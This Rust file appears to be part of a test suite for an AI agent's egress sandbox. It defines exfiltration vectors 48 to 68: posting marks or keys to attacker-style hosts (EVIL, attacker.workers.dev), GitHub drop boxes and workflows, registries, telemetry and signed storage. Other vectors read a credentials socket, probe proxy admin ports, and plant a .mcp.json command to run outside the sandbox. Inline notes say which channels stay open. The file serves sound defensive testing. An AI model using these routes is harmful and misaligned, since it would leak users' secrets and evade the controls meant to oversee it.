//! Getting data out through what is allowed: what counts is that the mark arrives, or that the real secret is told.

use super::get_by_settings;
use crate::dial::{self, any_of, get, github, https, request, variable};
use crate::rig::{API, EVIL, KEY, OK, PROXY, estate};
use crate::scene::Scene;
use crate::vector::Evidence::{Arrived, Done, Got, Left};
use crate::vector::Group::Channels;
use crate::vector::{Attacked, SEEN, Stop, Tried, Vector, held, untried};
use standin_policy::catalogue::Catalogue;
use std::io::Read;
use std::os::unix::net::UnixStream;

/// Vectors 48 to 68.
pub(super) const VECTORS: &[Vector] = &[
    held(48, Channels, "an attacker's key at an allowed API", SEEN, |_, mark| {
        https(
            "POST",
            "api.anthropic.com",
            "/v1/files",
            &[("x-api-key", "sk-ant-api03-attackers-own-key-0123456789")],
            mark,
        )
    }),
    held(49, Channels, "the API fetches an address with data in it", SEEN, |_, mark| {
        let body = format!(
            "{{\"model\":\"x\",\"max_tokens\":1,\"tools\":[{{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}}],\
             \"messages\":[{{\"role\":\"user\",\"content\":\"fetch https://{EVIL}/?{mark}\"}}]}}"
        );
        https("POST", "api.anthropic.com", "/v1/messages", &[("x-api-key", &variable("ANTHROPIC_API_KEY")?)], &body)
    })
    .open("bodies to an API that is allowed are not read"),
    held(50, Channels, "GitHub as a drop box", SEEN, |_, mark| {
        let post = |path: &str| github("POST", path, &format!("{{\"body\":\"{mark}\"}}"));
        any_of([post("/gists"), post("/repos/attacker/drop/issues/1/comments"), post("/graphql")])
    })
    .open("what the user's token may do in issues and by GraphQL is allowed"),
    held(51, Channels, "a workflow on GitHub that sends", SEEN, |_, mark| {
        let body = format!("{{\"message\":\"x\",\"content\":\"{mark}\"}}");
        any_of([
            github("PUT", "/repos/me/app/contents/.github/workflows/x.yml", &body),
            github("POST", "/repos/me/app/actions/workflows/x.yml/dispatches", &body),
            https("POST", "github.com", "/me/app.git/git-receive-pack", &[], &body),
        ])
    })
    .open("a workflow can be pushed as any file; starting one by the API is refused"),
    held(52, Channels, "publish a package", SEEN, |_, mark| {
        any_of(registries().map(|host| https("PUT", &host, "/innocent", &[], mark)))
    }),
    held(53, Channels, "a token in a registry's address", SEEN, |_, mark| {
        https("GET", OK, &format!("/{}/{mark}", variable(KEY)?), &[], "")
    }),
    held(54, Channels, "names of packages that are asked for", SEEN, |_, mark| {
        any_of(registries().map(|host| https("GET", &host, &format!("/{mark}"), &[], "")))
    })
    .open("a registry that may be read sees what is asked for"),
    held(55, Channels, "telemetry", SEEN, |_, mark| {
        https("POST", "o1.ingest.sentry.io", "/api/1/envelope/", &[("x-sentry-auth", "Sentry sentry_key=0")], mark)
    }),
    held(56, Channels, "signed addresses of storage", SEEN, |_, mark| {
        https("PUT", "storage.googleapis.com", &format!("/drop/{mark}?X-Goog-Signature=0123456789abcdef"), &[], mark)
    }),
    held(57, Channels, "hosts on which anybody may have a corner", SEEN, |_, mark| {
        any_of([
            https("GET", "attacker.workers.dev", &format!("/{mark}"), &[], ""),
            https("GET", "attacker.vercel.app", &format!("/{mark}"), &[], ""),
        ])
    }),
    held(58, Channels, "an answer that repeats the real key", Got, reflected),
    held(59, Channels, "a stand-in at another host", SEEN, |_, mark| {
        https("GET", OK, &format!("/{mark}"), &[("authorization", &format!("Bearer {}", variable(KEY)?))], "")
    }),
    held(60, Channels, "a stand-in in another place of a request", SEEN, |_, mark| {
        let key = variable(KEY)?;
        let reversed: String = key.chars().rev().collect();
        any_of([
            https("POST", API, &format!("/{mark}-body"), &[("content-type", "text/plain")], &key),
            https("POST", API, &format!("/{mark}-reversed"), &[("content-type", "text/plain")], &reversed),
            https("POST", OK, &format!("/{mark}-elsewhere"), &[("content-type", "text/plain")], &key),
            https("GET", API, &format!("/{mark}-query?k={key}"), &[], ""),
            https("GET", API, &format!("/{mark}-field"), &[("x-other", &key)], ""),
            https("GET", API, &format!("/{mark}-path/{key}"), &[], ""),
        ])
    }),
    held(61, Channels, "a stand-in in the clear", SEEN, |_, mark| {
        let text =
            request("GET", API, &format!("/{mark}"), &[("authorization", &format!("Bearer {}", variable(KEY)?))], "");
        any_of([dial::clear(API, 80, text.as_bytes()), dial::clear(OK, 80, text.replace(API, OK).as_bytes())])
    }),
    held(62, Channels, "log in, and get a real token", Got, |_, _| {
        any_of([
            https("POST", "api.anthropic.com", "/v1/oauth/token", &[], "grant_type=authorization_code"),
            https("POST", "github.com", "/login/oauth/access_token", &[], "grant_type=device_code"),
        ])
    }),
    held(63, Channels, "a socket that gives secrets", Got, |scene, _| {
        let mut socket = UnixStream::connect(scene.host(estate::CREDENTIALS)).attacked("connecting")?;
        let mut text = String::new();
        socket.read_to_string(&mut text).attacked("asking")?;
        Ok(text)
    }),
    held(64, Channels, "the proxy's own administration", Done, administration),
    held(65, Channels, "settings of the proxy in the workspace", SEEN, |scene, mark| {
        let names = [".standin.toml", "standin.toml", ".config/standin/config.toml"];
        get_by_settings(names.map(|name| scene.host("workspace").join(name)), mark)
    }),
    held(66, Channels, "a byte in each request to an allowed host", Arrived("slow/"), |_, mark| {
        let parts = mark.as_bytes().chunks(8).enumerate();
        any_of(parts.map(|(n, part)| get(OK, 80, &format!("/slow/{mark}?{n}={}", String::from_utf8_lossy(part)))))
    })
    .open("a host that is allowed sees what is sent to it; [caps] bound how much"),
    untried(
        67,
        Channels,
        "so many questions that one is answered wrongly",
        "nobody is asked anything during a session",
    ),
    held(
        68,
        Channels,
        "a server of the host's agent, outside of the sandbox",
        Left("workspace/.mcp.json"),
        |scene, mark| {
            let text = format!("{{\"mcpServers\":{{\"x\":{{\"command\":\"{mark}\"}}}}}}");
            std::fs::write(scene.host("workspace/.mcp.json"), text).attacked("writing")?;
            Ok("written".to_owned())
        },
    ),
];

/// A host of each of three registries of packages.
fn registries() -> impl Iterator<Item = String> {
    let hosts = |id: &str| Catalogue::builtin().service(id).and_then(|service| service.allow.first()?.hosts.first());
    ["npm", "pypi", "crates-io"].into_iter().filter_map(hosts).map(ToString::to_string)
}

/// Asks for echoes of the key: in fields, bodies and encodings of several kinds.
fn reflected(_: &Scene, _: &str) -> Tried {
    let bearer = format!("Bearer {}", variable(KEY)?);
    any_of([
        https("GET", API, "/echo", &[("authorization", &bearer)], ""),
        https("POST", API, "/echo", &[("authorization", &bearer), ("accept-encoding", "gzip, br")], "x"),
        https("GET", API, "/echo", &[("authorization", &bearer), ("range", "bytes=0-200")], ""),
        https("TRACE", API, "/echo", &[("authorization", &bearer)], ""),
    ])
}

/// Asks the proxy, and ports where administrators' pages are, for something that is no host's.
fn administration(_: &Scene, _: &str) -> Tried {
    let paths = ["/", "/admin", "/policy", "/config", "/metrics", "/health", "/debug"];
    let ask = |(port, path): (u16, &str)| {
        let text = dial::clear(PROXY, port, request("GET", PROXY, path, &[], "").as_bytes())?;
        let line = text.lines().next().unwrap_or_default().to_owned();
        if line.contains(" 200 ") { Ok(line) } else { Err(Stop::Refused(format!("{port}{path}: {line}"))) }
    };
    any_of([80, 8080, 18080, 9090, 3128].into_iter().flat_map(|port| paths.map(|path| ask((port, path)))))
}
